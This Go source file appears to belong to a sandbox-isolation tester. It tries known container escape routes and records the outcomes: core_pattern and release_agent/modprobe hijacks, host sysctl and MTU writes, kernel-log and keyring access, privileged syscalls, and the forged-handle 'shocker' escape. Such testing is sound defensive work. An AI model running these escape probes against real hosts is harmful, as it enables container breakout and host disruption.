package main

import (
	"bytes"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// sysWrite is one write to a /proc or /sys file that would change the
// host if it reached it.
type sysWrite struct {
	name, target string
	files        []string
	value        string
}

// hostWriteCases write host-changing values into /proc/sys and /sys. The
// sandbox may accept some for itself (a pod has its own host name); the
// host checks its own values.
func hostWriteCases() {
	mtus, _ := filepath.Glob("/sys/class/net/*/mtu")
	for _, h := range cfg.HostIfaces {
		mtus = append(mtus, "/sys/class/net/"+h.Name+"/mtu")
	}
	agents, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	agents = append(agents, "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent")
	for _, w := range []sysWrite{
		{"proc-sys-hostname", "the host's host name and domain name", []string{"/proc/sys/kernel/hostname"}, cfg.Hostname},
		{"proc-sys-domainname", "the host's NIS domain name", []string{"/proc/sys/kernel/domainname"}, cfg.Hostname},
		{"proc-sys-drop-caches", "the host's page cache (vm.drop_caches)", []string{"/proc/sys/vm/drop_caches"}, "3"},
		{"sys-class-net-mtu", "the MTU of the host's interfaces", mtus, "1280"},
		{"proc-sysrq-trigger", "the host kernel's magic SysRq (h: help, logged)", []string{"/proc/sysrq-trigger"}, "h"},
		{"proc-sys-core-pattern", "the host's kernel.core_pattern (a pipe to a program runs it as host root)", []string{"/proc/sys/kernel/core_pattern"}, "|/tmp/escape-core %p"},
		{"proc-sys-modprobe-uevent-helper", "the host's kernel.modprobe and uevent_helper (programs the host kernel runs as root)", []string{"/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/proc/sys/kernel/hotplug"}, "/tmp/escape-helper"},
		{"cgroup-release-agent", "the host's cgroup v1 release_agent (a program the host kernel runs as root)", agents, "/tmp/escape-release-agent"},
		{"sys-thp", "the host's transparent hugepage setting", []string{"/sys/kernel/mm/transparent_hugepage/enabled"}, "never"},
	} {
		k := newCase(w.name, w.target)
		for _, f := range w.files {
			if err := writeFile(f, w.value); err != nil {
				k.note("write %s: %s", f, errno(err))
			} else {
				k.passedInside("write %s: accepted", f)
			}
		}
		switch w.name {
		case "proc-sys-hostname":
			name := []byte(cfg.Hostname)
			_, _, e := unix.Syscall(unix.SYS_SETHOSTNAME, uintptr(unsafe.Pointer(&name[0])), uintptr(len(name)), 0)
			if e == 0 {
				k.passedInside("sethostname: accepted")
			} else {
				k.note("sethostname: %s", rawErr(e))
			}
			_, _, e = unix.Syscall(unix.SYS_SETDOMAINNAME, uintptr(unsafe.Pointer(&name[0])), uintptr(len(name)), 0)
			k.note("setdomainname: %s", rawErr(e))
			runtime.KeepAlive(name)
		case "cgroup-release-agent":
			for _, f := range agents {
				notify := filepath.Join(filepath.Dir(f), "notify_on_release")
				if err := writeFile(notify, "1"); err == nil {
					k.passedInside("write %s: accepted", notify)
				}
			}
		}
		k.done()
	}
}

// kernelCases call host kernel interfaces a sandbox must not pass on:
// the kernel log, keyrings, file handles, BPF, perf, modules, kexec, port
// I/O, userfaultfd, io_uring, reboot, the new mount API.
func kernelCases() {
	k := newCase("host-kernel-log", "the host's kernel log (the host wrote "+cfg.KmsgMarker+" there) through syslog(2), /dev/kmsg and /proc/kmsg")
	buf := make([]byte, 1<<20)
	r, _, e := unix.Syscall(unix.SYS_SYSLOG, 3 /* SYSLOG_ACTION_READ_ALL */, uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)))
	if e == 0 && bytes.Contains(buf[:r], []byte(cfg.KmsgMarker)) {
		k.escape("syslog(READ_ALL) returned the host's kernel log")
	}
	k.note("syslog(READ_ALL): %d bytes, %s", int64(r), rawErr(e))
	for _, p := range []string{"/dev/kmsg", "/proc/kmsg"} {
		fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			k.note("open %s: %s", p, errno(err))
			continue
		}
		total := 0
		for range 10000 {
			n, err := unix.Read(fd, buf)
			if n <= 0 || err != nil {
				break
			}
			total += n
			if bytes.Contains(buf[:n], []byte(cfg.KmsgMarker)) {
				k.escape("%s holds the host's kernel log", p)
				break
			}
		}
		unix.Close(fd)
		k.note("%s: read %d bytes", p, total)
	}
	k.done()

	k = newCase("host-keyring", "the host kernel's keyrings (add_key to the user keyring; the host checks /proc/keys for "+cfg.KeyDesc+")")
	typ, _ := unix.BytePtrFromString("user")
	desc, _ := unix.BytePtrFromString(cfg.KeyDesc)
	payload := []byte("escape")
	r, _, e = unix.Syscall6(unix.SYS_ADD_KEY, uintptr(unsafe.Pointer(typ)), uintptr(unsafe.Pointer(desc)), uintptr(unsafe.Pointer(&payload[0])), uintptr(len(payload)), uintptr(0xfffffffc) /* KEY_SPEC_USER_KEYRING */, 0)
	if e == 0 {
		k.passedInside("add_key returned %d", r)
	} else {
		k.note("add_key: %s", rawErr(e))
	}
	_, _, e = unix.Syscall(unix.SYS_KEYCTL, 0 /* KEYCTL_GET_KEYRING_ID */, uintptr(0xfffffffc), 0)
	k.note("keyctl(GET_KEYRING_ID): %s", rawErr(e))
	runtime.KeepAlive(typ)
	runtime.KeepAlive(desc)
	k.done()

	openByHandle()

	k = newCase("host-kernel-interfaces", "host kernel facilities: bpf, perf_event_open, init_module, finit_module, kexec_load, iopl, ioperm, userfaultfd, io_uring_setup, swapon, reboot(CAD_ON), fsopen, open_tree, lookup_dcookie")
	exe, _ := unix.Open("/proc/self/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	attr := make([]byte, 128) // struct perf_event_attr: type 1 (software), size 128, config 0 (cpu clock)
	attr[0] = 1
	attr[4] = 128
	bpfAttr := make([]byte, 128)
	bpfAttr[0] = 1                                                               // BPF_PROG_TYPE_SOCKET_FILTER
	bpfAttr[4] = 1                                                               // one instruction
	insn := []byte{0x95, 0, 0, 0, 0, 0, 0, 0}                                    // exit
	*(*uintptr)(unsafe.Pointer(&bpfAttr[8])) = uintptr(unsafe.Pointer(&insn[0])) // insns
	license := []byte("GPL\x00")
	*(*uintptr)(unsafe.Pointer(&bpfAttr[16])) = uintptr(unsafe.Pointer(&license[0]))
	uringParams := make([]byte, 120)
	garbage := []byte("\x7fELF not a module")
	swapPath, _ := unix.BytePtrFromString("/proc/self/exe")
	fsType, _ := unix.BytePtrFromString("ext4")
	slash, _ := unix.BytePtrFromString("/")
	for _, c := range []struct {
		name string
		nr   uintptr
		args [6]uintptr
	}{
		{"bpf(PROG_LOAD)", unix.SYS_BPF, [6]uintptr{5, uintptr(unsafe.Pointer(&bpfAttr[0])), 128}},
		{"perf_event_open", unix.SYS_PERF_EVENT_OPEN, [6]uintptr{uintptr(unsafe.Pointer(&attr[0])), 0, ^uintptr(0), ^uintptr(0), 0}},
		{"init_module", unix.SYS_INIT_MODULE, [6]uintptr{uintptr(unsafe.Pointer(&garbage[0])), uintptr(len(garbage)), uintptr(unsafe.Pointer(&garbage[len(garbage)-1]))}},
		{"finit_module", unix.SYS_FINIT_MODULE, [6]uintptr{uintptr(exe), uintptr(unsafe.Pointer(&garbage[len(garbage)-1])), 0}},
		{"kexec_load", unix.SYS_KEXEC_LOAD, [6]uintptr{0, 0, 0, 0xdead0000}},
		{"iopl(3)", unix.SYS_IOPL, [6]uintptr{3}},
		{"ioperm(0x80)", unix.SYS_IOPERM, [6]uintptr{0x80, 1, 1}},
		{"userfaultfd", unix.SYS_USERFAULTFD, [6]uintptr{unix.O_CLOEXEC}},
		{"io_uring_setup", unix.SYS_IO_URING_SETUP, [6]uintptr{8, uintptr(unsafe.Pointer(&uringParams[0]))}},
		{"swapon", unix.SYS_SWAPON, [6]uintptr{uintptr(unsafe.Pointer(swapPath)), 0}},
		{"reboot(CAD_ON)", unix.SYS_REBOOT, [6]uintptr{unix.LINUX_REBOOT_MAGIC1, unix.LINUX_REBOOT_MAGIC2, unix.LINUX_REBOOT_CMD_CAD_ON}},
		{"fsopen(ext4)", unix.SYS_FSOPEN, [6]uintptr{uintptr(unsafe.Pointer(fsType)), 0}},
		{"open_tree(/, CLONE)", unix.SYS_OPEN_TREE, [6]uintptr{atFDCWD, uintptr(unsafe.Pointer(slash)), unix.OPEN_TREE_CLONE | unix.OPEN_TREE_CLOEXEC}},
		{"lookup_dcookie", unix.SYS_LOOKUP_DCOOKIE, [6]uintptr{1, 0, 0}},
	} {
		r, _, e := unix.Syscall6(c.nr, c.args[0], c.args[1], c.args[2], c.args[3], c.args[4], c.args[5])
		switch {
		case e != 0:
			k.note("%s: %s", c.name, rawErr(e))
		case c.name == "open_tree(/, CLONE)":
			// A clone of the sandbox's own root is fine; the host's is not.
			k.note("%s: a tree, walked: %s", c.name, tryCanaryAt(k, int(r), hostRel(), "open_tree(/)"))
			unix.Close(int(r))
		case c.name == "reboot(CAD_ON)":
			k.passedInside("%s: accepted (the host checks kernel.ctrl-alt-del)", c.name)
		default:
			k.escape("%s returned %d: the host kernel's facility", c.name, r)
		}
	}
	runtime.KeepAlive(attr)
	runtime.KeepAlive(bpfAttr)
	runtime.KeepAlive(insn)
	runtime.KeepAlive(license)
	runtime.KeepAlive(uringParams)
	runtime.KeepAlive(garbage)
	runtime.KeepAlive(swapPath)
	runtime.KeepAlive(fsType)
	runtime.KeepAlive(slash)
	unix.Close(exe)
	k.done()
}

// openByHandle is the "shocker" escape: open_by_handle_at with a
// forged handle for inode 2 (an ext4 root) from a descriptor of a volume,
// which on a host kernel opens the root of the volume's host file system.
func openByHandle() {
	k := newCase("open-by-handle-shocker", "the root of a volume's host file system through open_by_handle_at with forged handles (inode 2, ...)")
	if len(cfg.Volumes) == 0 {
		k.done()
		return
	}
	mfd, err := unix.Open(cfg.Volumes[0], unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		k.note("open volume: %s", errno(err))
		k.done()
		return
	}
	defer unix.Close(mfd)
	if h, _, err := unix.NameToHandleAt(mfd, "", unix.AT_EMPTY_PATH); err == nil {
		k.note("name_to_handle_at: a handle of type %d, %d bytes", h.Type(), h.Size())
	} else {
		k.note("name_to_handle_at: %s", errno(err))
	}
	var errs []string
	for _, ino := range []uint32{2, 128, 11} {
		for _, typ := range []int32{1 /* FILEID_INO32_GEN */, 2 /* FILEID_INO32_GEN_PARENT */, 0x81 /* FILEID_BTRFS_WITH_PARENT-ish */} {
			b := make([]byte, 8)
			*(*uint32)(unsafe.Pointer(&b[0])) = ino
			h := unix.NewFileHandle(typ, b)
			fd, err := unix.OpenByHandleAt(mfd, h, unix.O_RDONLY|unix.O_DIRECTORY)
			if err == nil {
				ents, _ := os.ReadDir("/proc/self/fd/" + strconv.Itoa(fd))
				var names []string
				for _, e := range ents {
					names = append(names, e.Name())
				}
				k.escape("open_by_handle_at(inode %d, type %d) opened a directory: %s", ino, typ, strings.Join(names, " "))
				unix.Close(fd)
				continue
			}
			if !slices.Contains(errs, errno(err)) {
				errs = append(errs, errno(err))
			}
		}
	}
	k.note("open_by_handle_at: %v", errs)
	k.done()
}

// atFDCWD is AT_FDCWD as a system call argument.
var atFDCWD = func() uintptr { fd := unix.AT_FDCWD; return uintptr(fd) }()
